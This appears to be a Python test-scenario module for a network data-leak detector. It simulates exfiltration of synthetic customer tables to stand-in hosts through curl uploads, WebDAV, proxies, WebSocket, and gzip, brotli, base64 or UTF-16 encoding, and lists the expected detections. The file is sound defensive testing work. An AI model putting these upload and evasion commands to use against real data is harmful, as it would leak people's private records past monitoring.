"""Scenarios: browsers, web forms, programming interfaces, proxies, WebSocket."""

import base64
import gzip
import json
import urllib.parse
import zlib

import servers
from content import Lookalikes, customers, customers_file
from network import HERE, PYTHON
from registry import Facts, scenario

CURL = ["curl", "-sS", "-o", "/dev/null", "--max-time", "20"]
FILES = "http://files.example.net"


def pages(net, seed):
    """A small web site under www/."""
    made = Lookalikes(seed)
    net.write("www/index.html", made.page(8))
    net.write("www/news.html", made.page(14))
    net.write("www/catalogue.json", made.json(20))
    net.write("www/map.svg", made.svg(12))
    net.write("www/app.js", "".join(f"var {word}={made.price()};/*{made.digest()}*/\n" for word in made.words(80).split()))


def browse(net, site="http://www.example.org"):
    net.office_do(*CURL, "-A", "Mozilla/5.0 (X11; Linux x86_64; rv:115.0) Gecko/20100101 Firefox/115.0", "--compressed",
                  f"{site}/index.html", "-o", "/dev/null", f"{site}/app.js", "-o", "/dev/null", f"{site}/news.html",
                  "-o", "/dev/null", f"{site}/catalogue.json", "-o", "/dev/null", f"{site}/map.svg")


@scenario("support-export")
def support_export(net, record):
    """A support agent browses, backs up a disk image over TLS, and then uploads the exported customer table with a web
    form in clear."""
    pages(net, 11)
    servers.web(net, net.outside, "203.0.113.10:80", gzip=True)
    servers.web(net, net.outside, "203.0.113.9:80", "203.0.113.20:443 ssl http2")
    table = net.write("customers.csv", customers_file(200, 1))
    backup = net.write("backup.img", Lookalikes(12).chance.randbytes(160_000))
    record()
    browse(net)
    net.office_do(*CURL, "-k", "-T", backup, "https://vault.example.org/dav/backup.img")
    net.office_do(*CURL, "-u", "dana.support:Winter2026", "-F", "note=weekly export", "-F",
                  f"file=@{table};type=text/csv", f"{FILES}/upload")
    browse(net)
    facts = Facts().leak(customers(200, 1), ["POST /upload", "customers.csv"], user="dana.support",
                         hostname="files.example.net", media_type="text/csv")
    return facts.blind("tls", "203.0.113.20", 443, 160_000, hostname="vault.example.org")


@scenario("http-forms")
def http_forms(net, record):
    """Customers in a URL-encoded form, one by one in query strings of one connection, in a JSON body with \\u0040 for @,
    and in a cookie."""
    servers.web(net, net.outside, "203.0.113.9:80")
    form, single, api = customers(60, 21), customers(30, 22), customers(60, 23)
    body = urllib.parse.urlencode({"action": "import", "rows": "\n".join(";".join(row.values()) for row in form)})
    escaped = json.dumps({"customers": api}).replace("@", "\\u0040").replace("+", "\\u002b")
    queries = []
    for row in single:
        queries += [f"{FILES}/api/find?" + urllib.parse.urlencode(row), "-o", "/dev/null"]
    record()
    net.office_do(*CURL, "--data-binary", f"@{net.write('form', body)}", f"{FILES}/upload/form")
    net.office_do(*CURL, *queries[:-2])
    net.office_do(*CURL, "-H", "Content-Type: application/json", "--data-binary", f"@{net.write('api', escaped)}",
                  f"{FILES}/api/customers")
    cookie = "last=" + urllib.parse.quote(single[0]["email"]) + "; ticket=" + single[0]["ticket"]
    net.office_do(*CURL, "-H", f"Cookie: {cookie}", f"{FILES}/api/me")
    facts = Facts().leak(form, ["POST /upload/form"], hostname="files.example.net")
    facts.leak(single, ["GET /api/find"], within="flow")
    facts.leak(api, ["POST /api/customers"])
    return facts.leak(single[:1], ["GET /api/me"], values={"email": 1, "ticket": 1, "phone": 0}, within="flow")


@scenario("http-chunked-gzip")
def http_chunked_gzip(net, record):
    """An upload that is both compressed with gzip and sent in chunks of unknown total length; then one of two gzip
    members."""
    servers.web(net, net.outside, "203.0.113.9:80")
    one, two = customers_file(400, 31), customers_file(100, 32)
    half = len(two) // 2
    record()
    for name, body in (("one", gzip.compress(one, mtime=0)),
                       ("two", gzip.compress(two[:half], mtime=0) + gzip.compress(two[half:], mtime=0))):
        net.office_do(*CURL, "-H", "Content-Encoding: gzip", "-H", "Transfer-Encoding: chunked", "-H",
                      "Content-Type: text/csv", "--data-binary", f"@{net.write(name, body)}", f"{FILES}/upload/{name}")
    return Facts().leak(customers(400, 31), ["POST /upload/one"]).leak(customers(100, 32), ["POST /upload/two"])


@scenario("http-brotli-zstd")
def http_brotli_zstd(net, record):
    """Uploads compressed with brotli, zstd and deflate, and one with two codings on top of each other."""
    servers.web(net, net.outside, "203.0.113.9:80")
    path = {seed: net.write(f"{seed}.csv", customers_file(200, seed)) for seed in (41, 42, 43, 44)}
    brotli = net.office_do("brotli", "-c", path[41])
    zstd = net.office_do("zstd", "-qc", path[42])
    deflate = zlib.compress(customers_file(200, 43))
    both = net.office_do("brotli", "-c", net.write("inner.gz", gzip.compress(customers_file(200, 44), mtime=0)))
    record()
    facts = Facts()
    for seed, coding, body in ((41, "br", brotli), (42, "zstd", zstd), (43, "deflate", deflate), (44, "gzip, br", both)):
        net.office_do(*CURL, "-H", f"Content-Encoding: {coding}", "-H", "Content-Type: text/csv", "--data-binary",
                      f"@{net.write(f'{seed}.body', body)}", f"{FILES}/upload/{seed}")
        facts.leak(customers(200, seed), [f"POST /upload/{seed}"])
    return facts


@scenario("http-put-webdav")
def http_put_webdav(net, record):
    """A table put into a WebDAV folder: MKCOL, PUT with Expect: 100-continue, COPY, MOVE, DELETE."""
    servers.web(net, net.outside, "203.0.113.9:80")
    table = net.write("customers.csv", customers_file(150, 51))
    folder = f"{FILES}/dav/exports"
    record()
    net.office_do(*CURL, "-X", "MKCOL", f"{folder}/")
    net.office_do(*CURL, "-u", "sam:secret", "-H", "Expect: 100-continue", "-T", table, f"{folder}/customers.csv")
    net.office_do(*CURL, "-X", "COPY", "-H", f"Destination: {folder}/copy.csv", f"{folder}/customers.csv")
    net.office_do(*CURL, "-X", "MOVE", "-H", f"Destination: {folder}/moved.csv", f"{folder}/copy.csv")
    net.office_do(*CURL, "-X", "DELETE", f"{folder}/moved.csv")
    return Facts().leak(customers(150, 51), ["PUT /dav/exports/customers.csv"], user="sam", hostname="files.example.net")


@scenario("http-proxy-connect")
def http_proxy_connect(net, record):
    """Through a proxy (tinyproxy): a request with an absolute URI, a clear upload inside CONNECT, and TLS inside
    CONNECT."""
    servers.web(net, net.outside, "203.0.113.9:80", "203.0.113.20:443 ssl")
    servers.proxy(net)
    one = net.write("one.csv", customers_file(120, 61))
    two = net.write("two.csv", customers_file(130, 62))
    three = net.write("three.bin", Lookalikes(63).chance.randbytes(140_000))
    by_proxy = [*CURL, "-x", "http://proxy.example.net:8888"]
    record()
    net.office_do(*by_proxy, "-F", f"file=@{one}", f"{FILES}/upload")
    net.office_do(*by_proxy, "-p", "-F", f"file=@{two}", f"{FILES}/upload")
    net.office_do(*by_proxy, "-k", "-T", three, "https://vault.example.org/dav/three.bin")
    to_proxy = {"destination": "203.0.113.80", "port": 8888, "hostname": "files.example.net"}
    facts = Facts().leak(customers(120, 61), ["POST /upload", "one.csv"], **to_proxy)
    facts.leak(customers(130, 62), ["POST /upload", "two.csv"], **to_proxy)
    return facts.blind("tls", "203.0.113.80", 8888, 140_000, hostname="vault.example.org")


@scenario("proxy-layers")
def proxy_layers(net, record):
    """What stands before a connection: SOCKS 5 with a user and a host name (microsocks), then with an address; a PROXY header, as a
    load balancer writes it, before a compressed upload."""
    servers.web(net, net.outside, "203.0.113.9:80", "203.0.113.9:8081 proxy_protocol")
    net.start(net.outside, ["microsocks", "-i", "203.0.113.80", "-p", "1080", "-u", "dana.support", "-P", "Winter2026"], port=1080)
    net.start(net.outside, ["microsocks", "-i", "203.0.113.80", "-p", "1081"], port=1081)
    one, two = net.write("one.csv", customers_file(70, 64)), net.write("two.csv", customers_file(60, 65))
    packed = net.path("three.csv.gz")
    with open(packed, "wb") as out:
        out.write(gzip.compress(customers_file(80, 66), mtime=0))
    record()
    net.office_do(*CURL, "--socks5-hostname", "dana.support:Winter2026@203.0.113.80:1080", "-F", f"file=@{one}", f"{FILES}/upload")
    net.office_do(*CURL, "--socks5", "203.0.113.80:1081", "-F", f"file=@{two}", "http://203.0.113.9/upload")
    net.office_do(*CURL, "--haproxy-protocol", "-F", f"file=@{packed};type=application/gzip", "http://files.example.net:8081/upload")
    facts = Facts().leak(customers(70, 64), ["POST /upload", "one.csv"], destination="203.0.113.80", port=1080,
                         hostname="files.example.net", user="dana.support")
    facts.leak(customers(60, 65), ["POST /upload", "two.csv"], destination="203.0.113.80", port=1081, hostname="203.0.113.9")
    return facts.leak(customers(80, 66), ["POST /upload", "three.csv.gz"], port=8081, hostname="files.example.net")


@scenario("http-pipeline-keepalive")
def http_pipeline_keepalive(net, record):
    """Five uploads written in one go before the first answer, then three on one kept-alive connection."""
    servers.web(net, net.outside, "203.0.113.9:80")
    facts, requests = Facts(), b""
    for number in range(5):
        body = customers_file(40, 71 + number)
        requests += (f"POST /upload/{number} HTTP/1.1\r\nHost: files.example.net\r\nContent-Type: text/csv\r\n"
                     f"Content-Length: {len(body)}\r\n{'Connection: close' + chr(13) + chr(10) if number == 4 else ''}"
                     f"\r\n").encode() + body
        facts.leak(customers(40, 71 + number), [f"POST /upload/{number}"])
    kept = []
    for number in range(3):
        body = net.write(f"kept{number}.json", customers_file(30, 76 + number, "json"))
        kept += [*(["--next", "-sS"] if number else []), "-H", "Content-Type: application/json", "--data-binary",
                 f"@{body}", f"{FILES}/api/kept{number}"]
        facts.leak(customers(30, 76 + number), [f"POST /api/kept{number}"])
    record()
    net.office_do("socat", "-t", "10", "-", "TCP:203.0.113.9:80,bind=10.20.0.7", text=requests)
    net.office_do("curl", "-sS", *kept)
    return facts


@scenario("http-response-leak")
def http_response_leak(net, record):
    """A web server of the office (10.20.0.80) hands its customer table to a client outside, compressed with gzip: data
    leaves in a response."""
    net.write("www/export/customers.html", customers_file(300, 81, "html"))
    net.write("www/export/customers.json", customers_file(300, 82, "json"))
    servers.web(net, net.office, "10.20.0.80:80", gzip=True)
    record()
    for name, more in (("customers.html", ["--compressed"]), ("customers.json", [])):
        net.do(net.outside, *CURL, "--interface", "203.0.113.9", *more, f"http://10.20.0.80/export/{name}")
    both = {"source": "10.20.0.80", "port": None}
    facts = Facts().leak(customers(300, 81), ["200 GET /export/customers.html"], **both)
    return facts.leak(customers(300, 82), ["200 GET /export/customers.json"], **both)


@scenario("websocket")
def websocket(net, record):
    """Tables over WebSocket (python3-websockets): compressed with permessage-deflate, and plain with masked, fragmented
    frames."""
    servers.websocket(net)
    one = net.write("one.json", customers_file(120, 91, "json"))
    two = net.write("two.csv", customers_file(80, 92))
    three = net.write("three.bin", customers_file(90, 93))
    record()
    url = "ws://203.0.113.10:8765/live"
    net.office_do(PYTHON, f"{HERE}/websocket_client.py", url, "deflate", one, two)
    net.office_do(PYTHON, f"{HERE}/websocket_client.py", url, "plain", three)
    where = {"app_proto": "websocket", "destination": "203.0.113.10", "port": 8765, "within": "flow"}
    facts = Facts().leak(customers(120, 91) + customers(80, 92), ["websocket"], **where)
    return facts.leak(customers(90, 93), ["websocket"], **where)


@scenario("base64-in-json")
def base64_in_json(net, record):
    """A table as base64 inside a JSON document, and as a data: URL."""
    servers.web(net, net.outside, "203.0.113.9:80")
    one = json.dumps({"name": "export", "file": base64.b64encode(customers_file(150, 101)).decode(), "final": True})
    two = json.dumps({"src": "data:text/csv;base64," + base64.b64encode(customers_file(150, 102)).decode()})
    record()
    for name, body in (("one", one), ("two", two)):
        net.office_do(*CURL, "-H", "Content-Type: application/json", "--data-binary", f"@{net.write(name, body)}",
                      f"{FILES}/api/{name}")
    return Facts().leak(customers(150, 101), ["POST /api/one"]).leak(customers(150, 102), ["POST /api/two"])


@scenario("utf16-upload")
def utf16_upload(net, record):
    """A table in UTF-16 with a byte order mark, as spreadsheet programs save it, and one in Windows-1252."""
    servers.web(net, net.outside, "203.0.113.9:80")
    one = "\ufeff" + customers_file(200, 111).decode()
    two = customers_file(200, 112).decode().encode("cp1252", "replace")
    record()
    net.office_do(*CURL, "-F", f"file=@{net.write('utf16.csv', one.encode('utf-16-le'))};type=text/csv", f"{FILES}/upload")
    net.office_do(*CURL, "-H", "Content-Type: text/csv; charset=windows-1252", "--data-binary",
                  f"@{net.write('cp1252.csv', two)}", f"{FILES}/upload/western")
    facts = Facts().leak(customers(200, 111), ["POST /upload", "utf16.csv"])
    return facts.leak(customers(200, 112), ["POST /upload/western"])


@scenario("benign-browsing")
def benign_browsing(net, record):
    """Browsing, telemetry, logs and drawings full of UUIDs, hashes, times, prices, versions and coordinates: no alert."""
    pages(net, 121)
    servers.web(net, net.outside, "203.0.113.10:80", "203.0.113.9:80", gzip=True)
    made = Lookalikes(122)
    uploads = {"telemetry.json": made.json(60), "drawing.svg": made.svg(40), "service.log": made.log(200),
               "page.html": made.page(10)}
    paths = {name: net.write(name, body) for name, body in uploads.items()}
    record()
    browse(net)
    net.office_do(*CURL, "-H", "Content-Type: application/json", "--data-binary", f"@{paths['telemetry.json']}",
                  f"{FILES}/api/telemetry")
    for name in ("drawing.svg", "service.log", "page.html"):
        net.office_do(*CURL, "-F", f"file=@{paths[name]}", "-F", f"upload_id={made.uuid()}", f"{FILES}/upload")
    browse(net, "http://intranet-tools.example.com")
    return Facts()
